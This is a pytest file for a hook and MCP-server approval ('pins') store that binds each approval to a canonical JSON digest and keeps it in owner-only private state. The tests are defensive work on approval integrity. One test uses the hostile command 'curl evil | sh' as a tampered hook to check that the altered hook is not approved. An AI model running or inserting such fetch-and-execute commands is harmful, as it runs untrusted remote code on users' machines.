"""The pins store: an approval holds for exactly the digest approved, lives in cast's private
state (never the repository), and a store cast cannot read is an error that loses nothing."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest

from cast import pins
from cast.state import existing_private_dir, state_home, workspace_state_path

HOOK = {"event": "pre_tool_use", "matcher": "bash", "command": "./check.sh", "timeout": 10}


@pytest.fixture
def ws(tmp_path) -> Path:
    root = tmp_path / "project"
    root.mkdir()
    return root


def store(ws: Path) -> Path:
    return workspace_state_path(ws) / pins.DIRECTORY / pins.FILE


def test_digest_is_canonical_json():
    same = {"timeout": 10, "command": "./check.sh", "matcher": "bash", "event": "pre_tool_use"}
    assert pins.digest(HOOK) == pins.digest(same)
    assert len(pins.digest(HOOK)) == 64
    for changed in ({**HOOK, "command": "./check.sh "}, {**HOOK, "timeout": 11}, {**HOOK, "timeout": "10"}, {**HOOK, "x": 0}):
        assert pins.digest(changed) != pins.digest(HOOK), changed
    with pytest.raises(TypeError):
        pins.digest({"path": Path("/")})


def test_an_approval_holds_for_that_digest_only(ws, tmp_path):
    first = pins.digest(HOOK)
    assert not pins.approved(ws, "hook", "check", first)
    pins.approve(ws, "hook", "check", first, label="pre_tool_use bash: ./check.sh")
    assert pins.approved(ws, "hook", "check", first)
    assert not pins.approved(ws, "hook", "check", pins.digest({**HOOK, "command": "curl evil | sh"}))
    assert not pins.approved(ws, "mcp_server", "check", first)  # another kind
    assert not pins.approved(ws, "hook", "other", first)  # another name
    other = tmp_path / "other"
    other.mkdir()
    assert not pins.approved(other, "hook", "check", first)  # another workspace


def test_a_changed_thing_approved_again_replaces_its_pin(ws):
    old, new = pins.digest(HOOK), pins.digest({**HOOK, "timeout": 30})
    pins.approve(ws, "hook", "check", old)
    pins.approve(ws, "hook", "check", new)
    assert pins.approved(ws, "hook", "check", new) and not pins.approved(ws, "hook", "check", old)
    assert [pin.digest for pin in pins.listing(ws)] == [new]


def test_revoke_and_listing(ws):
    pins.approve(ws, "mcp_server", "zeta", "d1", label="npx zeta")
    pins.approve(ws, "hook", "b", "d2")
    pins.approve(ws, "hook", "a", "d3")
    assert [(p.kind, p.name) for p in pins.listing(ws)] == [("hook", "a"), ("hook", "b"), ("mcp_server", "zeta")]
    assert [p.name for p in pins.listing(ws, "mcp_server")] == ["zeta"]
    assert pins.listing(ws, "mcp_server")[0].label == "npx zeta"
    assert pins.revoke(ws, "hook", "a") and not pins.revoke(ws, "hook", "a")
    assert not pins.approved(ws, "hook", "a", "d3") and pins.approved(ws, "hook", "b", "d2")
    assert pins.revoke(ws, "mcp_server", "zeta")
    assert [p.name for p in pins.listing(ws)] == ["b"]


def test_names_of_any_text_survive_the_file(ws):
    for name in ("ünïcode", "a/b c", '"quoted"', "\udc80"):
        pins.approve(ws, "hook", name, "d")
        assert pins.approved(ws, "hook", name, "d"), name


def test_kept_in_private_state_owner_only_not_in_the_repository(ws):
    pins.approve(ws, "hook", "check", "d")
    path = store(ws)
    assert state_home() in path.parents and ws not in path.parents
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert list(ws.iterdir()) == []
    assert json.loads(path.read_text())["pins"][0]["name"] == "check"


def test_readers_create_nothing(ws):
    assert not pins.approved(ws, "hook", "check", "d") and pins.listing(ws) == []
    assert not pins.revoke(ws, "hook", "check")
    assert existing_private_dir(ws, pins.DIRECTORY) is None


@pytest.mark.parametrize(
    "damage", [b"{not json", b'{"version": 9, "pins": []}', b'{"version": 1, "pins": [{"kind": "hook"}]}', b"\xff"]
)
def test_a_damaged_store_is_an_error_and_nothing_is_overwritten(ws, damage):
    pins.approve(ws, "hook", "check", "d")
    store(ws).write_bytes(damage)
    with pytest.raises(pins.PinsError, match=r"pins\.json.*damaged.*remove it"):
        pins.approved(ws, "hook", "check", "d")
    with pytest.raises(pins.PinsError):
        pins.approve(ws, "hook", "other", "d")
    assert store(ws).read_bytes() == damage


def test_a_symlinked_store_is_not_followed(ws, tmp_path):
    pins.approve(ws, "hook", "check", "d")
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text(store(ws).read_text())
    store(ws).unlink()
    os.symlink(elsewhere, store(ws))
    with pytest.raises(pins.PinsError, match="not a regular file"):
        pins.approved(ws, "hook", "check", "d")
    with pytest.raises(pins.PinsError):
        pins.approve(ws, "hook", "x", "d")
    assert json.loads(elsewhere.read_text())["pins"][0]["name"] == "check"


@pytest.mark.parametrize("kind", ["", "Hook", "../x", "a b", 3])
def test_kinds_are_plain_names(ws, kind):
    with pytest.raises(ValueError):
        pins.approve(ws, kind, "n", "d")  # type: ignore[arg-type]
